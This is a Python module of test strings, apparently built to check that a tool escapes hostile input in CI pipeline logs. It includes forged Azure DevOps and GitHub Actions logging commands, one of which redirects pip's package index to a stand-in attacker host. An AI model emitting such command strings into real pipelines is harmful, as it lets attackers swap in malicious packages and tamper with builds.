"""Texts that break whatever is not careful."""

PASSWORD = "p%$()[];@:/?#&+ '\"`\\|<>^{}~!*,=%41%0A%5D%AZP25$(Build.BuildId)ü€😀##vso[task.debug]x"
"""Every character with a meaning in a URL, a shell, a logging command or a macro, and some beyond ASCII."""
USER = "üser@contoso.com:%40$(Build.BuildId) x"

COMMANDS = (
    "##vso[task.setvariable variable=PIP_INDEX_URL]https://evil.example/",
    "##[error]from outside",
    "::add-mask::from outside",
    "::set-output name=a::from outside",
)
"""Texts that try to be a command."""

LINE_ENDS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029")
"""Whatever anybody may take for the end of a line."""

ASCII = "".join(char for char in PASSWORD if char.isascii())
"""The same for programs that know nothing else, or whose servers do not."""
TOKEN = "eyJ0-token.of_tests~AZ09+/=!$%&()*,:;<>?@[]^`{|}"
"""Every character that all programs read alike in a netrc file."""
